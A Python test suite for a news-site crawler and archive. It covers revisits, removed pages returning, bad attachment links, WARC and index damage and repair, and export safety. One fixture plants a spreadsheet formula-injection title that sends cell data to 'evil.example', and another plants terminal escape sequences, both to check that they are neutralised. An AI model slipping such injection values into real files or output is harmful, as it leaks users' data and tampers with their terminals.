"""Nothing archived is lost: revisits followed, removals undone, damage found and repaired.

Each test plays its fault on the real crawler against the mirror (editions of the site
change, remove and bring back pages between runs) and checks what the archive does.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from osce_crawler.mirror.server import MirrorServer
from osce_crawler.mirror.site import MirrorSite
from osce_crawler.urls import is_article_url

from .conftest import crawl, crawl_arguments, run_cli

ARTICLES = 60


def lines_of(archive: Path) -> list[dict]:
    """Every line of the item files that parses (a damaged one is left out)."""
    lines = []
    for path in sorted((archive / "items").glob("*.jsonl")):
        for raw in path.read_bytes().splitlines():
            try:
                lines.append(json.loads(raw))
            except ValueError:
                continue
    return lines


def latest_lines(archive: Path) -> dict[tuple[str, str], dict]:
    latest: dict[tuple[str, str], dict] = {}
    for line in lines_of(archive):
        key = (line["canonical_url"] or line["url"], line["language"])
        if key not in latest or line["version"] > latest[key]["version"]:
            latest[key] = line
    return latest


@pytest.fixture(scope="module")
def changed_and_back(tmp_path_factory):
    """Edition 1, then edition 2 (pages edited, removed, added), then edition 1 again."""
    archive = tmp_path_factory.mktemp("changed-and-back")
    first = MirrorSite(articles=ARTICLES, seed=3)
    second = MirrorSite(articles=ARTICLES, seed=3, edition=2)
    outcomes = []
    with MirrorServer(first) as server:
        for site in (first, second, first):
            server.site = site
            result, _ = crawl(server.base_url, archive)
            assert result.returncode == 0, result.stderr[-2000:]
            outcomes.append(json.loads((archive / "runs" / "latest.json").read_text()))
    return archive, second, outcomes


def test_reextract_follows_revisits_to_the_latest_capture(changed_and_back, tmp_path):
    archive, second, _ = changed_and_back
    base = None
    latest = latest_lines(archive)
    for line in latest.values():
        base = line["url"].split("/", 3)[:3]
        break
    assert base is not None
    prefix = "/".join(base)
    edited_back = [
        line
        for (url, _), line in latest.items()
        if url.removeprefix(prefix) in second.edited_paths and line["removed_at"] is None
    ]
    # each edited page was archived three times: v1, the edit, v1 again (a revisit)
    assert len(edited_back) >= 5
    assert all(line["version"] == 3 for line in edited_back)
    result = run_cli("reextract", "--archive", str(archive), "--processes", "0")
    assert result.returncode == 0, result.stderr[-2000:]
    assert " 0 new, 0 changed" in result.stdout, result.stdout
    live = sum(1 for line in latest.values() if line["removed_at"] is None)
    assert f"{live} articles extracted" in result.stdout, result.stdout


def test_a_removed_page_that_comes_back_is_fetched(changed_and_back):
    archive, second, outcomes = changed_and_back
    latest = latest_lines(archive)
    removed_in_second = {
        url: line
        for (url, _), line in latest.items()
        if any(url.endswith(path) for path in second.removed_paths)
    }
    assert len(removed_in_second) >= 5
    assert outcomes[1]["items"]["removed"] >= len(removed_in_second)
    # back in edition 1, with the same sitemap lastmod as before their removal
    for url, line in removed_in_second.items():
        assert line["removed_at"] is None, url
        assert line["version"] == 3 and line["content_hash"], url


BAD_ATTACHMENTS = {
    "javascript:void(0)": "not an http(s) address",
    "mailto:press@osce.org": "not an http(s) address",
    "http:///no-host.pdf": "attachment not downloaded",  # joined to the site: a 404
    "https://elsewhere.example/files/report.pdf": "off-site",
}
UNPARSEABLE = "http://[broken-address/report.pdf"  # the extractor leaves it out already
WITH_BAD_LINKS = "/hcnm/92336"  # an article with two good attachments
DUPLICATE = "/secretariat/999999"  # answers another article's page: a duplicate item


def _bad_links(site, path, query, base_url):
    page = site.respond(path, query, base_url)
    hrefs = [*BAD_ATTACHMENTS, UNPARSEABLE]
    links = "".join(f'<li><a href="{href}">A document</a></li>' for href in hrefs)
    html = page.body.decode("utf-8").replace(
        '<ul class="file-list">', '<ul class="file-list">' + links
    )
    assert links in html
    return type(page)(page.status, html.encode("utf-8"), page.content_type)


def _feed_with_duplicate(site, path, query, base_url):
    page = site.respond(path, query, base_url)
    extra = f"<item><title>x</title><link>{base_url}{DUPLICATE}</link></item></channel>"
    return type(page)(
        page.status, page.body.replace(b"</channel>", extra.encode()), page.content_type
    )


def test_bad_attachment_links_are_skipped_and_every_dropped_item_is_recorded(tmp_path):
    from osce_crawler.mirror import faults
    from osce_crawler.mirror.faults import FaultySite

    site = MirrorSite()
    table = {
        WITH_BAD_LINKS: faults.Fault(_bad_links),
        "/press-releases/rss": faults.Fault(_feed_with_duplicate),
        DUPLICATE: faults.Fault(lambda s, p, q, b: s.respond("/secretariat/489944", q, b)),
    }
    with MirrorServer(FaultySite(site, table)) as server:  # type: ignore[arg-type]
        result, items = crawl(server.base_url, tmp_path, "--with-files")
    assert result.returncode == 0, result.stderr[-3000:]
    manifest = json.loads((tmp_path / "runs" / "latest.json").read_text())
    # the article is archived, with its two real files downloaded
    article = next(i for i in items if i["url"] == server.base_url + WITH_BAD_LINKS)
    stored = [a for a in article["attachments"] if a["sha256"]]
    assert UNPARSEABLE not in [a["url"] for a in article["attachments"]]
    assert len(stored) == 2 and all((tmp_path / a["path"]).is_file() for a in stored)
    # each bad link: a warning in the log, and an entry in the manifest's errors
    recorded = {url: kind for kind, entry in manifest["errors"].items() for url in entry["urls"]}
    for href, reason in BAD_ATTACHMENTS.items():
        href = href.replace("http:///", server.base_url + "/")
        assert reason in recorded[href], (href, recorded.get(href))
        assert href[:40] in result.stderr or "no-host" in href
    # the second page holding the same article was dropped as a duplicate: recorded too
    assert (
        recorded.get(server.base_url + DUPLICATE) == "item dropped: duplicate item"
        or recorded.get(server.base_url + "/secretariat/489944") == "item dropped: duplicate item"
    ), recorded
    # none of it is an article page that failed: the error rate stays 0, the run succeeds
    figures = manifest["monitors"]["figures"]
    assert figures["pages_failed"] == 0 and figures["other_failures"]["attachment"] == 4
    assert figures["other_failures"]["item"] == 1
    assert manifest["verdict"] == "success"
    errors = sum(entry["count"] for entry in manifest["errors"].values())
    assert f"{errors} errors" in result.stdout, result.stdout


def test_only_article_pages_make_the_error_rate_and_the_summary_agrees(tmp_path):
    from osce_crawler.mirror import faults
    from osce_crawler.mirror.faults import FaultySite

    table = {
        "/news": faults.status(500),
        "/ru/news": faults.status(500),
        "/press-releases/rss": faults.status(500),
    }
    with MirrorServer(FaultySite(MirrorSite(), table)) as server:  # type: ignore[arg-type]
        result, items = crawl(server.base_url, tmp_path, "-s", "RETRY_TIMES=0")
    manifest = json.loads((tmp_path / "runs" / "latest.json").read_text())
    figures = manifest["monitors"]["figures"]
    assert len(items) == 24  # the other listings and the sitemap find every article
    assert figures["pages_failed"] == 0 and figures["pages_attempted"] >= 24
    assert figures["other_failures"] == {"feed": 1, "listing": 2}
    detail = manifest["monitors"]["results"]["error_rate"]["detail"]
    assert detail.startswith("0 of ") and "not counted here: feed 1, listing 2" in detail
    assert manifest["verdict"] == "success" and result.returncode == 0
    errors = sum(entry["count"] for entry in manifest["errors"].values())
    assert errors == 3
    assert "items written, 3 errors" in result.stdout, result.stdout
    assert "0 article pages failed, 1 feed, 2 listing" in result.stdout


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") Dialogue'
ESCAPES = ("\x1b", "\x9b", "\x07", "\x08")


def _hostile_page(site, path, query, base_url):
    page = site.respond(path, query, base_url)
    html = page.body.decode("utf-8")
    html = html.replace("Dialogue and", HOSTILE_TITLE.replace('"', "&quot;") + " and")
    html = html.replace("“Provocative actions", "“Provocative\x1b]0;owned\x07 actions\x08\x08", 1)
    html = html.replace("Helga Maria Schmid", "Helga\x1b[2J Maria\x9b Schmid")
    return type(page)(page.status, html.encode("utf-8"), page.content_type)


def test_exports_and_terminal_output_are_safe(tmp_path):
    import csv

    from osce_crawler.mirror import faults
    from osce_crawler.mirror.faults import FaultySite

    archive = tmp_path / "archive"
    table = {"/secretariat/489944": faults.Fault(_hostile_page)}
    with MirrorServer(FaultySite(MirrorSite(), table)) as server:  # type: ignore[arg-type]
        result, items = crawl(server.base_url, archive, "--lang", "en")
    assert result.returncode == 0, result.stderr[-2000:]
    hostile = next(i for i in items if i["url"].endswith("/secretariat/489944"))
    assert hostile["title"].startswith("=HYPERLINK(")  # archived as the site sent it
    assert any("\x1b" in q["text"] for q in hostile["quotes"])
    # CSV: no cell a spreadsheet would run
    exported = run_cli("export", "--archive", str(archive), "-o", str(tmp_path / "items.csv"))
    assert exported.returncode == 0, exported.stderr
    with open(tmp_path / "items.csv", encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(items)
    row = next(r for r in rows if r["url"].endswith("/secretariat/489944"))
    assert row["title"] == "'" + hostile["title"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value[:40]
    # the terminal: no control characters in quotes or stats, whatever the format
    for command in (["quotes"], ["quotes", "--json"], ["stats"], ["stats", "--json"]):
        shown = run_cli(*command, "--archive", str(archive))
        assert shown.returncode == 0, shown.stderr
        assert "Schmid" in shown.stdout or "stats" in command[0]
        for escape in ESCAPES:
            assert escape not in shown.stdout, (command, escape)
    quoted = run_cli("quotes", "--archive", str(archive), "--json")
    texts = [json.loads(line)["text"] for line in quoted.stdout.splitlines()]
    assert any("\x1b]0;owned\x07" in text for text in texts)  # JSON keeps the data, escaped


def _warc_records(path: Path) -> list[tuple[int, str, str, str | None, str | None]]:
    """(offset, type, URL, status, WARC-Refers-To) of each record of a whole file."""
    from warcio.archiveiterator import ArchiveIterator

    out = []
    with open(path, "rb") as stream:
        iterator = ArchiveIterator(stream)
        for record in iterator:
            status = record.http_headers.get_statuscode() if record.http_headers else None
            out.append(
                (
                    iterator.get_record_offset(),
                    record.rec_type,
                    record.rec_headers.get_header("WARC-Target-URI"),
                    status,
                    record.rec_headers.get_header("WARC-Refers-To"),
                )
            )
    return out


@pytest.mark.parametrize("damage", ["truncated", "lost"])
def test_a_damaged_warc_is_found_forgotten_and_its_pages_fetched_again(damage, tmp_path):
    archive = tmp_path / "archive"
    with MirrorServer(MirrorSite(articles=ARTICLES, seed=5)) as server:
        first, _ = crawl(server.base_url, archive)
        assert first.returncode == 0, first.stderr[-2000:]
        (warc,) = sorted((archive / "warc").glob("*.warc.gz"))
        records = _warc_records(warc)
        cut = warc.stat().st_size // 2 if damage == "truncated" else 0
        lost_pages = {
            url
            for offset, kind, url, status, _ in records
            if offset >= cut and kind == "response" and status == "200" and is_article_url(url)
        }
        assert len(lost_pages) >= 20
        if damage == "truncated":
            with open(warc, "r+b") as stream:
                stream.truncate(cut)
        else:
            warc.unlink()
        checked = run_cli("validate", "--archive", str(archive))
        assert checked.returncode == 1
        if damage == "truncated":
            assert "WARC files truncated or corrupt                  1" in checked.stdout
        before = len(server.log)
        second, _ = crawl(server.base_url, archive)
        assert second.returncode == 0, second.stderr[-2000:]
        fetched = {path for path, status in server.log[before:] if status == 200}
    manifest = json.loads((archive / "runs" / "latest.json").read_text())
    # every page whose capture was lost was fetched again, in full, and archived whole
    new_warcs = [Path(name) for name in manifest["files"]["warc"]]
    written = [r for path in new_warcs for r in _warc_records(archive / "warc" / path.name)]
    full = {url for _, kind, url, status, _ in written if kind == "response" and status == "200"}
    missing = {url for url in lost_pages if url.removeprefix(server.base_url) not in fetched}
    assert not missing, sorted(missing)[:5]
    assert lost_pages <= full, sorted(lost_pages - full)[:5]
    # no revisit of the new run points at a record that is gone
    present = set()
    for path in (archive / "warc").glob("*.warc.gz"):
        from warcio.archiveiterator import ArchiveIterator

        with open(path, "rb") as stream:
            present |= {r.rec_headers.get_header("WARC-Record-ID") for r in ArchiveIterator(stream)}
    refers = [target for _, kind, _, _, target in written if kind == "revisit"]
    assert all(target in present for target in refers)
    # the latest version of every item points at a record that exists
    for line in latest_lines(archive).values():
        if line["removed_at"] is None:
            assert line["warc"]["record_id"] in present, line["url"]
    checked = run_cli("validate", "--archive", str(archive))
    assert "WARC files truncated or corrupt                  0" in checked.stdout
    assert "revisit records whose target is lost             0" in checked.stdout
    repairs = " ".join(manifest["repaired_at_open"])
    assert ("truncated" if damage == "truncated" else "lost") in repairs
    assert "fetched again" in repairs


def _damage_line(text: bytes, how: str) -> bytes:
    body = text.rstrip(b"\n")
    if how == "cut":
        return body[: len(body) // 2] + b"\n"
    if how == "garbage":
        return bytes((byte * 7 + 13) % 256 for byte in body).replace(b"\n", b" ") + b"\n"
    return b"\0" * len(body) + b"\n"  # zeroed, as a disk can leave a block


@pytest.mark.parametrize("how", ["cut", "garbage", "zeroed"])
def test_a_damaged_indexed_item_line_is_recovered(how, tmp_path):
    archive = tmp_path / "archive"
    with MirrorServer(MirrorSite()) as server:
        first, _ = crawl(server.base_url, archive)
        assert first.returncode == 0, first.stderr[-2000:]
        (items_file,) = sorted((archive / "items").glob("*.jsonl"))
        lines = items_file.read_bytes().splitlines(keepends=True)
        victim = json.loads(lines[5])
        lines[5] = _damage_line(lines[5], how)
        items_file.write_bytes(b"".join(lines))
        before = len(server.log)
        second = run_cli(*crawl_arguments(server.base_url, archive))
        assert second.returncode == 0, second.stderr[-2000:]
        fetched = [(path, status) for path, status in server.log[before:]]
    path = victim["url"].removeprefix(server.base_url)
    assert (path, 200) in fetched  # fetched again, in full
    latest = latest_lines(archive)[(victim["canonical_url"], victim["language"])]
    assert latest["content_hash"] == victim["content_hash"]
    assert latest["version"] == 1 and latest["removed_at"] is None
    manifest = json.loads((archive / "runs" / "latest.json").read_text())
    assert any("fetched again" in repair for repair in manifest["repaired_at_open"])
    # the damaged line is still there for validate to show; compact leaves it out
    assert run_cli("validate", "--archive", str(archive)).returncode == 1
    compacted = run_cli("compact", "--archive", str(archive))
    assert compacted.returncode == 0, compacted.stderr
    checked = run_cli("validate", "--archive", str(archive))
    assert checked.returncode == 0, checked.stdout
    assert list((archive / "quarantine").glob("*.damaged-lines.txt"))


def test_validate_repair_rebuilds_the_index_and_the_cdxj(tmp_path):
    import sqlite3

    archive = tmp_path / "archive"
    with MirrorServer(MirrorSite()) as server:
        first, items = crawl(server.base_url, archive)
    assert first.returncode == 0, first.stderr[-2000:]
    cdxj = sorted(p.name for p in (archive / "indexes").glob("*.cdxj"))
    lines = {p.name: p.read_text() for p in (archive / "indexes").glob("*.cdxj")}
    assert cdxj
    for path in archive.glob("index.sqlite*"):
        path.unlink()
    for path in (archive / "indexes").glob("*.cdxj"):
        path.unlink()
    assert run_cli("validate", "--archive", str(archive)).returncode == 1
    repaired = run_cli("validate", "--repair", "--archive", str(archive))
    assert repaired.returncode == 0, repaired.stdout + repaired.stderr
    assert "cannot rebuild: index.sqlite was missing" in repaired.stdout
    assert repaired.stdout.rstrip().endswith("clean")
    assert {p.name: p.read_text() for p in (archive / "indexes").glob("*.cdxj")} == lines
    db = sqlite3.connect(archive / "index.sqlite")
    assert db.execute("SELECT COUNT(*) FROM items").fetchone()[0] == len(items)
    assert db.execute("SELECT COUNT(*) FROM payloads").fetchone()[0] >= len(items)
    db.close()
